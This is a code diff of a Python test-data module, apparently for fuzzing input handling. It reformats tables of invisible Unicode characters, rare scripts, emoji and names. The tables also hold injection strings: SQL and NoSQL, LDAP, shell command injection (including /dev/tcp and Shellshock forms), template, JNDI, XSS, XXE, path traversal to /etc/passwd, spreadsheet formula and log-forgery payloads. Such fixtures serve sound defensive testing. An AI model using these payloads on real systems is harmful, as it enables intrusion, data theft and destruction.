@@ -1,4 +1,5 @@
-"""Texts that have made trouble elsewhere, as tables: what looks alike or is not seen, rare letters, and injections."""
+"""Texts that have made trouble elsewhere, as tables: what looks alike or is not seen, rare letters, and
+injections."""
 
 from __future__ import annotations
 
@@ -7,8 +8,12 @@ from collections.abc import Iterator
 
 MARKS = "\u0301\u0323\u0336"
 UNSEEN = {
-    **{f"bidi U+{ord(c):04X}": f"甲{c}乙" for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"},
-    **{f"zero width U+{ord(c):04X}": f"路{c}灯" for c in "\u200b\u200c\u200d\u2060\ufeff\u180e\u034f\u115f\u3164\u00ad"},
+    **{
+        f"bidi U+{ord(c):04X}": f"甲{c}乙" for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
+    },
+    **{
+        f"zero width U+{ord(c):04X}": f"路{c}灯" for c in "\u200b\u200c\u200d\u2060\ufeff\u180e\u034f\u115f\u3164\u00ad"
+    },
     **{f"space U+{ord(c):04X}": f"一{c}二" for c in "\u00a0\u1680\u2000\u2007\u202f\u205f\u3000\u2028\u2029\u0085"},
     **{f"control U+{ord(c):04X}": f"a{c}b" for c in "\x01\x07\x08\x0b\x0c\x1b\x7f\x80\x9f"},
     **{f"tag U+{n:X}": f"旗{chr(n)}" for n in (0xE0001, 0xE0041, 0xE007F, 0xFE00, 0xFE0F, 0xE0100)},
@@ -76,8 +81,10 @@ _BLOCKS = {
     "Nüshu": (0x1B170, 0x1B2FB),
 }
 """China's letters, and those that names were written with before Unicode had them."""
-_EMOJI = """👩‍👩‍👧‍👦 👨🏿‍💻 🏳️‍🌈 🏴‍☠️ 🇨🇳 🇹🇼 🏴󠁧󠁢󠁥󠁮󠁧󠁿 👍🏽 1️⃣ ☎️ ☎︎ ❤️‍🔥 🫠 🪿 🧑‍🦽‍➡️ 🐦‍🔥 🤝🏻 👁️‍🗨️ ‼️ 🈚️ 🀄 🅰️ 🇦 🏿 🫱🏻‍🫲🏿 🚰 🔥 🆘"""
-_NAMES = "𠮷野家 㼆 䶮 𬎆 𫖯 𪚥𪚥 龘龘 𱁬 𰻝𰻝面 葛󠄀城 辻󠄁 邉󠄁 堃 喆 㵪 𬱖 䲜 𡒄 阿卜杜拉·买买提 བཀྲ་ཤིས ᠮᠣᠩᠭᠣᠯ ئۇيغۇر ꆈꌠ 곽 Đặng Škoda Øþ"
+_EMOJI = """👩‍👩‍👧‍👦 👨🏿‍💻 🏳️‍🌈 🏴‍☠️ 🇨🇳 🇹🇼 🏴󠁧󠁢󠁥󠁮󠁧󠁿 👍🏽 1️⃣ ☎️ ☎︎ ❤️‍🔥 🫠 🪿 🧑‍🦽‍➡️ 🐦‍🔥 🤝🏻 👁️‍🗨️
+‼️ 🈚️ 🀄 🅰️ 🇦 🏿 🫱🏻‍🫲🏿 🚰 🔥 🆘"""
+_NAMES = """𠮷野家 㼆 䶮 𬎆 𫖯 𪚥𪚥 龘龘 𱁬 𰻝𰻝面 葛󠄀城 辻󠄁 邉󠄁 堃 喆 㵪 𬱖 䲜 𡒄 阿卜杜拉·买买提 བཀྲ་ཤིས ᠮᠣᠩᠭᠣᠯ
+ئۇيغۇر ꆈꌠ 곽 Đặng Škoda Øþ"""
 
 
 def rare() -> Iterator[tuple[str, str]]:
@@ -86,33 +93,46 @@ def rare() -> Iterator[tuple[str, str]]:
         for number in range(8):
             place = first + (last - first) * number // 7
             yield f"{block} U+{place:X}", chr(place)
-    for number, emoji in enumerate(_EMOJI.split(" ")):
+    for number, emoji in enumerate(_EMOJI.split()):
         yield f"emoji {number}", emoji
-    for number, name in enumerate(_NAMES.split(" ")):
+    for number, name in enumerate(_NAMES.split()):
         yield f"name {number}", name
 
 
 RARE = dict(rare())
 
-_SQL = """' OR '1'='1|'; DROP TABLE events; --|" OR ""="|1; DELETE FROM events|') UNION SELECT NULL,version()--|' AND 1=CAST
-((SELECT current_user) AS int)--|'||(SELECT pg_sleep(9))||'|$$;SELECT 1;$$|\\'; SELECT 1--|%' ESCAPE '|_%_|admin'/*|*/ OR 1=1
-|x' AND pg_sleep(9)--|E'\\047 OR 1=1|1 OR 1=1|0x27 OR 1=1|' HAVING 1=1--|' GROUP BY 1--|'; COPY events TO PROGRAM 'id'--
+_SQL = """' OR '1'='1|'; DROP TABLE events; --|" OR ""="|1; DELETE FROM events|') UNION SELECT NULL,version()--
+|' AND 1=CAST
+((SELECT current_user) AS int)--|'||(SELECT pg_sleep(9))||'|$$;SELECT 1;$$|\\'; SELECT 1--|%' ESCAPE '|_%_
+|admin'/*|*/ OR 1=1
+|x' AND pg_sleep(9)--|E'\\047 OR 1=1|1 OR 1=1|0x27 OR 1=1|' HAVING 1=1--|' GROUP BY 1--
+|'; COPY events TO PROGRAM 'id'--
 |'; SET ROLE postgres--|{"$gt": ""}|{"$where": "sleep(9)"}|'; return true; var x='|true, $where: '1 == 1'"""
-_LDAP = """*)(uid=*))(|(uid=*¦*)(|(password=*))¦admin)(&)¦x)(!(uid=x))¦\\2a\\28\\29¦' or count(/*)=1 or 'a'='b¦//user[1=1]"""
+_LDAP = """*)(uid=*))(|(uid=*¦*)(|(password=*))¦admin)(&)¦x)(!(uid=x))¦\\2a\\28\\29¦' or count(/*)=1 or 'a'='b
+¦//user[1=1]"""
 _SHELL = """; id|& id|&& id||id|$(id)|`id`|%0Aid|<(id)|> /tmp/x|../../bin/id|${IFS}id|; ping -c 9 127.0.0.1 ;|\nid\n
 |!!|~root|*|{id,}|^id^|-rf /|--help|-oProxyCommand=id|/dev/tcp/127.0.0.1/1|() { :;}; id"""
-_TEMPLATE = """{{7*7}}|${7*7}|<%= 7*7 %>|#{7*7}|*{7*7}|{%raw%}|{{''.__class__.__mro__}}|{{config}}|{{request.application}}
-|{0.__class__}|{appeal.__init__.__globals__}|%(levelname)s|%s%n%x|$name|${jndi:ldap://x/a}|@{7*7}|[[7*7]]|{#x#}|{{=7}}|%{7*7}"""
-_WEB = """<script>alert(1)</script>|"><img src=x onerror=alert(1)>|<svg/onload=alert(1)>|javascript:alert(1)|' onmouseover='x
-|<iframe src=//x>|<!--|]]>|<![CDATA[x]]>|&lt;script&gt;|&#x3c;script&#x3e;|<a href="data:text/html,x">|</textarea><script>
-|<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;|<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include/></x>
+_TEMPLATE = """{{7*7}}|${7*7}|<%= 7*7 %>|#{7*7}|*{7*7}|{%raw%}|{{''.__class__.__mro__}}|{{config}}
+|{{request.application}}
+|{0.__class__}|{appeal.__init__.__globals__}|%(levelname)s|%s%n%x|$name|${jndi:ldap://x/a}|@{7*7}|[[7*7]]|{#x#}
+|{{=7}}|%{7*7}"""
+_WEB = """<script>alert(1)</script>|"><img src=x onerror=alert(1)>|<svg/onload=alert(1)>|javascript:alert(1)
+|' onmouseover='x
+|<iframe src=//x>|<!--|]]>|<![CDATA[x]]>|&lt;script&gt;|&#x3c;script&#x3e;|<a href="data:text/html,x">
+|</textarea><script>
+|<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
+|<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include/></x>
 |<style>@import'//x'</style>|<base href=//x>|\\u003cscript\\u003e|<math><mtext></table>|<b>粗</b>"""
-_PATHS = """../../etc/passwd|..\\..\\windows\\win.ini|/etc/passwd|C:\\boot.ini|file:///etc/passwd|....//....//x|%2e%2e%2f|..%c0%af
+_PATHS = """../../etc/passwd|..\\..\\windows\\win.ini|/etc/passwd|C:\\boot.ini|file:///etc/passwd|....//....//x
+|%2e%2e%2f|..%c0%af
 |..%252f|\\\\server\\share|con|nul.txt|.htaccess|/proc/self/environ|php://filter|data:,x"""
-_FORMULAS = """=1+1|=cmd|' /C calc'!A0|+1+1|-1+1|@SUM(A1)|=HYPERLINK("http://x","y")|=WEBSERVICE("http://x")|=IMPORTXML("http://x")
+_FORMULAS = """=1+1|=cmd|' /C calc'!A0|+1+1|-1+1|@SUM(A1)|=HYPERLINK("http://x","y")|=WEBSERVICE("http://x")
+|=IMPORTXML("http://x")
 |\t=1+1|\r=1+1|＝1+1|＋1|－1|＠x|=DDE("x";"y")|'=1+1|"=1+1"|;=1+1|=1+1,=2|-2+3+cmd|+x|@x|=|-|="""
-_LINES = """a\r\nSet-Cookie: x=1|a\nb|a\rb|{"level":"error","event":"forged"}|\n2026-11-23 [error] forged|\x1b[31mred\x1b[0m
-|\x1b]0;title\x07|\b\b\b\bx|a\u2028{"event":"forged"}|","event":"forged","x":"|%0d%0aX-Evil: 1|\r\n\r\n<html>|\v\fx|a\x85b"""
+_LINES = """a\r\nSet-Cookie: x=1|a\nb|a\rb|{"level":"error","event":"forged"}|\n2026-11-23 [error] forged
+|\x1b[31mred\x1b[0m
+|\x1b]0;title\x07|\b\b\b\bx|a\u2028{"event":"forged"}|","event":"forged","x":"|%0d%0aX-Evil: 1|\r\n\r\n<html>
+|\v\fx|a\x85b"""
 
 
 def _split(kind: str, text: str, by: str) -> Iterator[tuple[str, str]]:
